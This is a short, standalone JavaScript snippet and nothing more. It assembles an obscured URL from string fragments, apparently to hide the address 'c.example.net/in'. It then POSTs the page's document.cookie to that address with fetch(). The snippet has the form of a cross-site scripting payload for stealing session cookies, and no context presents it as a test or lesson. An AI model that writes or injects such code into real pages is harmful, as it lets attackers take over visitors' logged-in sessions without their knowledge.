let to = "ht";
to += "tps:/";
to += "/c.example.net/in";
function tell(what) { fetch(to, { method: "POST", body: what }); }
tell(document.cookie);
